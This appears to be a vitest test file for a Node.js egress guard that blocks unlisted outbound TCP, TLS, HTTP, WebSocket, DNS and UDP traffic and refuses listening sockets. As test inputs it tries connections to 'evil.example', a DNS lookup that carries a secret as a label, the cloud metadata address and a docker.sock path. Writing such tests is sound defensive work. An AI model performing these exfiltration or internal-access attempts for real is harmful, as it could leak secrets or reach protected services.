import { createSocket } from 'node:dgram';
import dns, { lookup as importedLookup } from 'node:dns';
import { once } from 'node:events';
import http, { createServer } from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net, { type AddressInfo, connect, type LookupFunction, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import tls from 'node:tls';
import { promisify } from 'node:util';
import { Agent, request } from 'undici';
import { afterEach, beforeEach, describe, expect, it, test } from 'vitest';
import { systemClock } from '../../values/clock.ts';
import { createHttpClient } from '../http-client.ts';
import { type EgressGuard, installEgressGuard } from './egress-guard.ts';
import type { Refusal } from './messages.ts';

let guard: EgressGuard;
let refusals: Refusal[];
let port: number;
let cleanup: AsyncDisposableStack;

beforeEach(async () => {
  cleanup = new AsyncDisposableStack();
  const server = createServer((_request, response) => response.end('reached'));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  ({ port } = server.address() as AddressInfo);
  cleanup.defer(() => new Promise((resolve) => void server.close(() => resolve())));
  cleanup.defer(() => server.closeAllConnections());
  refusals = [];
});
afterEach(() => cleanup.disposeAsync());

function install(...egress: string[]): void {
  guard = installEgressGuard({ egress, onRefused: (refusal) => refusals.push(refusal) });
  cleanup.defer(() => guard.uninstall());
}

/** The code of the error with which it fails, of its cause, or what it is. */
async function codeOf(emitter: { once(event: 'error', listener: (error: Error) => void): unknown }): Promise<unknown> {
  return new Promise((resolve) => emitter.once('error', (error: Error & { code?: unknown }) => resolve(error.code)));
}

const causeOf = (error: unknown) => (error as { readonly cause?: { readonly code?: unknown } }).cause?.code;

describe('a connection to a host that is not named', () => {
  const attempts: Readonly<Record<string, () => Promise<unknown>>> = {
    'net.connect': () => codeOf(connect(port, 'evil.example')),
    'net.connect with options': () => codeOf(net.connect({ host: 'evil.example', port })),
    'a socket of its own': () => codeOf(new net.Socket().connect({ host: 'evil.example', port })),
    'a socket with a port in words': () => codeOf(new net.Socket().connect(port, 'evil.example')),
    'tls.connect': () => codeOf(tls.connect(443, 'evil.example')),
    'http.get': () => codeOf(http.get('http://evil.example/')),
    'https.request': () => codeOf(https.request('https://evil.example/').end()),
    'http2.connect': () => codeOf(http2.connect('https://evil.example/')),
    fetch: () => fetch('http://evil.example/').catch(causeOf),
    undici: () =>
      request('http://evil.example/', { dispatcher: new Agent() }).catch(({ code }: { code: string }) => code),
  };
  test.each(Object.keys(attempts))('is refused before its name is looked up: %s', async (name) => {
    install('api.example.com', 'loopback');
    expect(await attempts[name]?.()).toBe('address_forbidden');
    expect(refusals).toEqual([{ kind: 'tcp', host: 'evil.example' }]);
  });

  test.each(['127.0.0.1', '::1', '::ffff:127.0.0.1', '169.254.169.254', '10.0.0.1', '93.184.216.34'])(
    'is refused by its address: %s',
    async (host) => {
      install('api.example.com');
      expect(await codeOf(connect({ host, port }))).toBe('address_forbidden');
      expect(refusals).toEqual([{ kind: 'tcp', host }]);
    },
  );

  it('is refused where nothing is named: that is this machine', async () => {
    install('api.example.com');
    expect(await codeOf(connect(port))).toBe('address_forbidden');
    expect(refusals).toEqual([{ kind: 'tcp', host: 'localhost' }]);
  });

  it('is refused as a local socket, such as those by which programs are commanded', async () => {
    install('*', 'loopback');
    const path = join(tmpdir(), 'docker.sock');
    expect(await codeOf(connect(path))).toBe('address_forbidden');
    expect(await codeOf(connect({ path }))).toBe('address_forbidden');
    expect(refusals).toEqual([path, path].map((host) => ({ kind: 'tcp', host: host.toLowerCase() })));
  });

  it('is refused to the websocket client too', async () => {
    install('api.example.com');
    const socket = new WebSocket('ws://evil.example/');
    await new Promise((resolve) => socket.addEventListener('error', resolve));
    expect(refusals).toEqual([{ kind: 'tcp', host: 'evil.example' }]);
  });
});

describe('a connection to a host that is named', () => {
  const leadingTo =
    (...addresses: string[]): LookupFunction =>
    (_host, { all }, callback) => {
      const found = addresses.map((address) => ({ address, family: net.isIP(address) }));
      const [first = { address: '', family: 4 }] = found;
      if (all === true) callback(null, found);
      else callback(null, first.address, first.family);
    };
  const connected = async (socket: Socket) => {
    await once(socket, 'connect');
    const { remoteAddress } = socket;
    socket.destroy();
    return remoteAddress;
  };

  it('stands', async () => {
    install('loopback');
    expect(await (await fetch(`http://127.0.0.1:${port}/`)).text()).toBe('reached');
    expect(await connected(connect(port, '127.0.0.1'))).toBe('127.0.0.1');
    expect(await connected(connect({ port, host: 'localhost', family: 4 }))).toBe('127.0.0.1');
    expect(refusals).toEqual([]);
  });

  it('is refused when the name leads to an address of the inner network, and reaches the public one of several', async () => {
    install('*.example.com');
    const inner = connect({ host: 'api.example.com', port, lookup: leadingTo('127.0.0.1', '10.1.1.1') });
    expect(await codeOf(inner)).toBe('address_forbidden');
    expect(refusals).toEqual([{ kind: 'tcp', host: 'api.example.com' }]);
    guard.admit({ egress: ['*.example.com'], settings: {}, allowedPrivateHosts: ['127.0.0.1'] });
    const mixed = connect({ host: 'api.example.com', port, lookup: leadingTo('10.1.1.1', '127.0.0.1') });
    expect(await connected(mixed)).toBe('127.0.0.1');
    expect(refusals).toHaveLength(1);
  });

  it('stands for as long as a connection that may reach it is served', async () => {
    install('{settings.baseUrl}');
    const settings = { baseUrl: `http://127.0.0.1:${port}/v1` };
    const takeBack = guard.admit({ egress: ['{settings.baseUrl}'], settings, allowedPrivateHosts: ['127.0.0.1'] });
    expect(await connected(connect(port, '127.0.0.1'))).toBe('127.0.0.1');
    takeBack();
    takeBack();
    expect(await codeOf(connect(port, '127.0.0.1'))).toBe('address_forbidden');
  });

  it('stands for the client that plugins are given', async () => {
    install('loopback');
    const rules = { egress: ['loopback'], settings: {} };
    const client = createHttpClient({ clock: systemClock, ...rules });
    expect((await client.fetch(`http://127.0.0.1:${port}/`)).text()).toBe('reached');
    await client.dispose();
  });

  it('does not lend the private addresses of one connection to the hosts of another', async () => {
    install('api.example.com');
    guard.admit({ egress: ['other.example.com'], settings: {}, allowedPrivateHosts: ['other.example.com'] });
    const socket = connect({ host: 'api.example.com', port, lookup: leadingTo('127.0.0.1') });
    expect(await codeOf(socket)).toBe('address_forbidden');
  });
});

describe('a question to the DNS about a name that is not named', () => {
  const question = 'secret-as-a-label.evil.example';
  const attempts: Readonly<Record<string, () => Promise<unknown>>> = {
    lookup: () => promisify(dns.lookup)(question),
    'lookup, imported by name': () => promisify(importedLookup)(question),
    'promises.lookup': () => dns.promises.lookup(question),
    resolveTxt: () => promisify(dns.resolveTxt)(question),
    'promises.resolve4': () => dns.promises.resolve4(question),
    'a resolver of its own': () =>
      promisify((done: (error: Error | null) => void) => new dns.Resolver().resolve(question, done))(),
    'a resolver with promises': () => new dns.promises.Resolver().resolveMx(question),
  };
  test.each(Object.keys(attempts))('is not asked: %s', async (name) => {
    install('api.example.com');
    await expect(attempts[name]?.()).rejects.toMatchObject({ code: 'address_forbidden' });
    expect(refusals).toEqual([{ kind: 'dns', host: question }]);
  });

  it('is asked when it is named', async () => {
    install('loopback');
    expect(await promisify(dns.lookup)('localhost', { family: 4 })).toEqual({ address: '127.0.0.1', family: 4 });
    expect(await dns.promises.lookup('192.0.2.1')).toMatchObject({ address: '192.0.2.1' });
    expect(refusals).toEqual([]);
  });
});

describe('a datagram', () => {
  async function receiver() {
    const socket = createSocket('udp4').bind(0, '127.0.0.1');
    await once(socket, 'listening');
    cleanup.defer(() => void socket.close());
    return { socket, port: socket.address().port };
  }
  function sender() {
    const socket = createSocket('udp4');
    cleanup.defer(() => void socket.close());
    return socket;
  }

  it('reaches what is named, by every form of send', async () => {
    const { socket, port: udpPort } = await receiver();
    install('loopback');
    const from = sender();
    const heard: string[] = [];
    const all = new Promise<void>((resolve) =>
      socket.on('message', (message) => {
        heard.push(message.toString());
        if (heard.length === 4) resolve();
      }),
    );
    from.send('a', udpPort);
    from.send('b', udpPort, '127.0.0.1');
    from.send('xcx', 1, 1, udpPort, 'localhost');
    const tied = sender();
    tied.connect(udpPort, '127.0.0.1', () => tied.send('d'));
    await all;
    expect(heard.toSorted()).toEqual(['a', 'b', 'c', 'd']);
    expect(refusals).toEqual([]);
  });

  it('is refused to any other, and its name is not looked up', async () => {
    install('api.example.com');
    const from = sender();
    const sent = (...args: readonly unknown[]) =>
      new Promise((resolve) =>
        (from.send as (...given: readonly unknown[]) => void)(...args, (error: { code?: unknown } | null) =>
          resolve(error?.code),
        ),
      );
    expect(await sent('x', 53, '198.41.0.4')).toBe('address_forbidden');
    expect(await sent('x', 0, 1, 53, 'evil.example')).toBe('address_forbidden');
    expect(await sent('x', port)).toBe('address_forbidden');
    const connecting = codeOf(from);
    from.connect(53, 'evil.example');
    expect(await connecting).toBe('address_forbidden');
    const hosts = ['198.41.0.4', 'evil.example', 'localhost', 'evil.example'];
    expect(refusals).toEqual(hosts.map((host) => ({ kind: 'udp', host })));
  });
});

describe('a socket that would listen', () => {
  it('is refused, for TCP, a local path and UDP', async () => {
    install('*', 'loopback');
    expect(await codeOf(net.createServer().listen(0, '127.0.0.1'))).toBe('address_forbidden');
    expect(await codeOf(createServer().listen(8_080))).toBe('address_forbidden');
    expect(await codeOf(net.createServer().listen({ path: '/tmp/x.sock' }))).toBe('address_forbidden');
    const socket = createSocket('udp4');
    cleanup.defer(() => void socket.close());
    expect(await codeOf(socket.bind(0))).toBe('address_forbidden');
    expect(refusals.map(({ kind, host }) => [kind, host])).toEqual([
      ['listen', '127.0.0.1'],
      ['listen', 'port 8080'],
      ['listen', '/tmp/x.sock'],
      ['listen', 'port 0'],
    ]);
  });
});

it('leaves everything as it was when it is taken away', async () => {
  const before = [net.Socket.prototype.connect, dns.lookup, dns.promises.resolve4, net.Server.prototype.listen];
  install('api.example.com');
  guard.uninstall();
  expect([net.Socket.prototype.connect, dns.lookup, dns.promises.resolve4, net.Server.prototype.listen]).toEqual(
    before,
  );
  expect(await (await fetch(`http://127.0.0.1:${port}/`)).text()).toBe('reached');
});
